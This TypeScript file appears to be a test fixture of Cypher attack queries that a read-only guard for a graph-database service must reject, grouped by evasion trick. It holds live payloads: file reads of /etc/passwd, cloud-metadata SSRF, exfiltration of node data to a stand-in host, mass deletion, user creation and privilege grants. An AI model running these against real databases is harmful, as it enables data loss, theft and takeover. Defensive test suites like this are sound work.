/** A statement that must be refused before the server sees it, and the class of trick it stands for. */
export interface Attack {
  readonly trick: string
  readonly statement: string
}

function attacks(trick: string, ...statements: readonly string[]): Attack[] {
  return statements.map((statement) => ({ trick, statement }))
}

const fullWidth = (text: string) => text.replace(/[A-Za-z]/g, (letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0))

/** Written anew after what was reported of other guards, which look for words or ask the planner. */
export const attackQueries: readonly Attack[] = [
  ...attacks(
    'writing clauses',
    'CREATE (n:Pwned) RETURN n',
    'MATCH (n) SET n.owned = true RETURN n',
    'MATCH (n) SET n += {owned: true}',
    'MATCH (n) SET n:Pwned RETURN n',
    'MATCH (n) DELETE n',
    'MATCH (n) DETACH DELETE n',
    'MATCH (n) NODETACH DELETE n',
    'MATCH (n) REMOVE n.name RETURN n',
    'MERGE (n:Pwned {a: 1}) ON CREATE SET n.b = 2 RETURN n',
    'MATCH (a), (b) CREATE (a)-[:PWNED]->(b) RETURN a',
    'MATCH (n) RETURN n CREATE (m:Pwned)',
    'WITH 1 AS create CREATE (x) RETURN x',
    'MATCH (n) WITH n MATCH (m) MERGE (n)-[:X]->(m) RETURN 1'
  ),
  ...attacks('the other word for CREATE', 'INSERT (n:Pwned)', 'MATCH (n) INSERT (n)-[:X]->(:Pwned) RETURN n', 'insert (:A)-[:B]->(:C)'),
  ...attacks('a loop that writes', 'FOREACH (x IN [1] | CREATE (:Pwned))', 'MATCH (n) FOREACH (i IN range(1, 3) | SET n.a = i) RETURN n'),
  ...attacks(
    'files and addresses as reads',
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'http://169.254.169.254/latest/meta-data/' AS row RETURN row",
    "MATCH (n) LOAD CSV FROM 'http://collect.example/?' + n.name AS line RETURN line",
    "CALL { LOAD CSV FROM 'file:///etc/hosts' AS l RETURN l } RETURN l",
    "USING PERIODIC COMMIT 5 LOAD CSV FROM 'file:///a' AS l RETURN l",
    'RETURN file()',
    'RETURN linenumber()'
  ),
  ...attacks(
    'procedures that planners call reads',
    "CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value",
    "CALL apoc.load.json('http://127.0.0.1:8080/admin')",
    "CALL apoc.load.csv('http://10.0.0.1/') YIELD map RETURN map",
    "CALL apoc.cypher.run('CREATE (n) RETURN n', {}) YIELD value RETURN value",
    "CALL apoc.cypher.runFile('http://a/b.cypher')",
    "CALL apoc . load . json ('file:///a') YIELD value RETURN value",
    "CALL /* quiet */ apoc.load.json('file:///a') YIELD value RETURN value",
    "CALL `apoc`.`load`.`json`('file:///a') YIELD value RETURN value",
    "CALL `apoc.load.json`('file:///a') YIELD value RETURN value",
    "CALL gds.graph.drop('g')",
    "CALL gds.graph.drop('g') YIELD graphName RETURN graphName",
    "CALL gds.graph.project('g', '*', '*') YIELD graphName RETURN graphName",
    "CALL gds.run_cypher('CREATE (n)')",
    "MATCH (n) CALL gds.graph.drop('g') YIELD graphName RETURN n",
    "OPTIONAL CALL gds.graph.drop('g') YIELD graphName RETURN graphName",
    "CALL dbms.killQueries(['1'])",
    'CALL dbms.listConfig() YIELD name RETURN name',
    'CALL dbms.components()',
    "CALL db.createLabel('Pwned')",
    'CALL db.clearQueryCaches()',
    'CALL db.schema.visualization()',
    "CALL db.index.fulltext.queryNodes('i', 'secret') YIELD node RETURN node",
    "CALL db.index.vector.queryNodes('i', 3, [1.0]) YIELD node RETURN node",
    'CALL db.labels YIELD * RETURN 1 UNION CALL tx.setMetaData({a: 1})'
  ),
  ...attacks(
    'functions of others, which can run anything',
    "RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) DETACH DELETE n', {})",
    "RETURN gds.graph.exists('g')",
    'MATCH (n) WHERE apoc.util.sleep(1) RETURN n',
    'RETURN gds.util.asNode(0)',
    "MATCH (n) RETURN gds.graph.project('g', n, n)",
    "RETURN graph.byName('system')",
    "RETURN `apoc.text.join`(['a'], '')",
    "RETURN db.nameFromElementId('4:a:1')",
    'RETURN myown.function()'
  ),
  ...attacks(
    'subqueries that write',
    'CALL { CREATE (n:Pwned) RETURN n } RETURN n',
    'CALL { MATCH (n) SET n.a = 1 RETURN n } RETURN count(*)',
    'MATCH (n) CALL { WITH n DETACH DELETE n } RETURN 1',
    'MATCH (n) CALL (n) { SET n.a = 1 } RETURN n',
    'MATCH (n) CALL { WITH n CALL { WITH n SET n.a = 1 RETURN n AS m } RETURN m } RETURN m',
    'MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n',
    'MATCH (n) RETURN COUNT { MATCH (n) DELETE n }',
    'RETURN COLLECT { CREATE (n) RETURN n }',
    'MATCH (n) WHERE EXISTS { MATCH (m) CALL { CREATE (:Pwned) } RETURN m } RETURN n'
  ),
  ...attacks(
    'transactions of their own',
    'CALL { MATCH (n) RETURN n } IN TRANSACTIONS RETURN n',
    'CALL { CREATE (n) } IN TRANSACTIONS OF 10 ROWS',
    'MATCH (n) CALL (n) { MATCH (m) RETURN m } IN 3 CONCURRENT TRANSACTIONS ON ERROR CONTINUE RETURN m'
  ),
  ...attacks(
    'other graphs',
    'USE system MATCH (n) RETURN n',
    'USE neo4j CREATE (n)',
    'CALL { USE other MATCH (n) RETURN n } RETURN n',
    "USE graph.byName('x') RETURN 1"
  ),
  ...attacks(
    'prefixes and commands',
    'PROFILE MATCH (n) DETACH DELETE n',
    'EXPLAIN MATCH (n) RETURN n',
    'CYPHER 25 MATCH (n) RETURN n',
    'CYPHER runtime=slotted MATCH (n) RETURN n',
    'CYPHER 5 CREATE (n)',
    'SHOW USERS',
    'SHOW DATABASES YIELD name RETURN name',
    'SHOW TRANSACTIONS',
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    'DROP DATABASE neo4j',
    'CREATE INDEX FOR (n:A) ON (n.b)',
    'DROP CONSTRAINT a IF EXISTS',
    'CREATE USER mallory SET PASSWORD "12345678"',
    'ALTER CURRENT USER SET PASSWORD FROM "a" TO "b"',
    'GRANT ALL ON DBMS TO PUBLIC',
    'STOP DATABASE neo4j',
    'BEGIN MATCH (n) RETURN n',
    ':param x => 1',
    'MATCH (n) FINISH',
    'LET x = 1 RETURN x',
    'FILTER true RETURN 1',
    'WHEN true THEN RETURN 1'
  ),
  ...attacks(
    'several statements',
    'MATCH (n) RETURN n; MATCH (m) DETACH DELETE m',
    'RETURN 1; CREATE (n);',
    'RETURN 1;;',
    ';CREATE (n)',
    'RETURN 1 NEXT MATCH (n) DELETE n',
    'RETURN 1 UNION CREATE (n) RETURN n',
    'RETURN 1 AS a UNION ALL MATCH (n) SET n.x = 1 RETURN 1 AS a'
  ),
  ...attacks(
    'computed labels and types',
    "WITH 'A' AS l MATCH (n:$(l)) RETURN n",
    'MATCH (n) SET n:$(n.label)',
    'MATCH ()-[r:$(type)]->() RETURN r',
    'MATCH (n:$all($labels)) RETURN n',
    'MATCH (n:$any(["A"])) RETURN n',
    'MATCH (n $map) RETURN n'
  ),
  ...attacks(
    'words hidden by comments',
    'MATCH (n) DETACH/* */DELETE n',
    'MATCH (n) /* RETURN n */ DELETE n',
    'CRE/**/ATE (n)',
    'RETURN 1 // \n CREATE (n)',
    'RETURN 1 //\r CREATE (n)',
    "RETURN 1 /* ' */ CREATE (n) /* ' */",
    '/* MATCH (n) RETURN n */ CREATE (n)',
    'MATCH (n) /* unclosed RETURN n',
    'RETURN 1 /* /* */ CREATE (n) */'
  ),
  ...attacks(
    'look-alikes and invisible characters',
    `${fullWidth('CREATE')} (n) RETURN n`,
    `MATCH (n) ${fullWidth('DELETE')} n`,
    `MATCH (n) ${fullWidth('detach delete')} n`,
    'MATCH (n) S\u0415T n.a = 1',
    'MATCH (n) D\u0395LETE n',
    'CRE\u200bATE (n)',
    'MATCH (n)\u00a0DELETE n',
    'MATCH (n)\u2028CREATE (m)',
    '\ufeffCREATE (n)',
    'MATCH (a)\u2010[r]\u2010>(b) RETURN a',
    'MATCH (a)\u27e8--(b) RETURN a',
    'MATCH (n) RETURN n\u037e CREATE (m)',
    'MATCH (n) RETURN n.\u017fecret'
  ),
  ...attacks(
    'escapes that Cypher 5 resolves before it reads',
    'MATCH (n) WHERE n.a = "\\u0022 DELETE n //" RETURN n',
    "RETURN '\\u0027 CREATE (n) //'",
    'MATCH (n:`A\\u0060) DELETE n //`) RETURN n',
    '\\u0043REATE (n)',
    'MATCH (n) \\u0044ELETE n',
    "RETURN 'a\\\\u0027 CREATE (n) //'",
    'RETURN 1 /* \\u002a\\u002f CREATE (n) /* */',
    'RETURN 1 // \\u000a CREATE (n)',
    "RETURN '\\U0001F600'",
    'MATCH (n) RETURN n.`\\u0061`'
  ),
  ...attacks(
    'what is never closed',
    "RETURN 'a",
    'RETURN "a',
    'MATCH (n:`A) RETURN n',
    "RETURN 'a\\'",
    'MATCH (n RETURN n',
    'RETURN [1, 2',
    'RETURN {a: 1',
    'MATCH (n) RETURN n)',
    'RETURN (1]',
    'RETURN `a``'
  ),
  ...attacks('null characters', 'RETURN 1\0', "RETURN '\0'", 'MATCH (n:`\0`) RETURN n'),
  ...attacks(
    "the service's own nodes",
    'MATCH (n:EdgewiseGraph) RETURN n',
    'MATCH (n:`EdgewiseSlot2`) RETURN n',
    'MATCH (n:!EdgewiseSlot1) RETURN n',
    'MATCH (n:A|EdgewiseSlot2) RETURN n',
    'MATCH (n) WHERE n:EdgewiseSlot2 RETURN n',
    'MATCH (n) RETURN n.edgewiseKey',
    'MATCH (n {edgewiseKey: 1}) RETURN n',
    'MATCH (n) RETURN n {.edgewiseKey}',
    'MATCH ()-[r:EdgewiseOwns]->() RETURN r',
    'MATCH (`Edgewise item`) RETURN 1'
  ),
  ...attacks(
    'work without bounds',
    'MATCH (a)-[*]->(b) RETURN b',
    'MATCH (a)-[*3..]->(b) RETURN b',
    'MATCH (a)-[*1..100000]->(b) RETURN b',
    'MATCH (a)-[:X]->+(b) RETURN b',
    'MATCH (a)-[:X]->*(b) RETURN b',
    'MATCH (a) ((x)-->(y)){1,} (b) RETURN b',
    'MATCH (a) ((x)-->(y))+ (b) RETURN b',
    'MATCH p = shortestPath((a)-[*]-(b)) RETURN p',
    'MATCH (a)-[*1..$n]->(b) RETURN b',
    'RETURN reduce(x = 0, i IN range(1, 1000000000) | x + i)',
    'WITH 1000000000 AS n RETURN size([i IN range(1, n) WHERE i < 0 | i])',
    'RETURN [a IN range(1, 1000) | [b IN range(1, 1000) | [c IN range(1, 1000) | 1]]]',
    "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a+)+b'",
    "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a|aa)+b'",
    "MATCH (n) WHERE n.name =~ ('.*' + n.name) RETURN n",
    `RETURN ${'('.repeat(300)}1${')'.repeat(300)}`,
    `RETURN ${'NOT '.repeat(3000)}true`,
    `RETURN ${'CASE WHEN '.repeat(200)}true${' THEN 1 END'.repeat(200)}`,
    `RETURN ${'1 + '.repeat(4000)}1`,
    `RETURN '${'a'.repeat(30_000)}'`
  ),
  ...attacks(
    'values that change',
    'RETURN rand()',
    'RETURN randomUUID()',
    'RETURN timestamp()',
    'RETURN datetime()',
    'RETURN date.realtime()',
    "RETURN datetime({timezone: 'UTC'})"
  ),
  ...attacks(
    'patterns read as sums, sums read as patterns',
    'MATCH (n) WHERE (n) - [r:$(x)] - (m) RETURN n',
    'MATCH (n) USING INDEX n:A(b) WHERE n.b = 1 RETURN n',
    'MATCH (n) USING SCAN n:A RETURN n',
    'MATCH (n:%) RETURN n',
    'MATCH p = ANY SHORTEST (a)-->(b) RETURN p',
    'MATCH (a)-[r]->(b), RETURN a',
    'MATCH (n) WHERE n.name = $missing RETURN n',
    'MATCH (n)',
    '',
    'hello'
  )
]
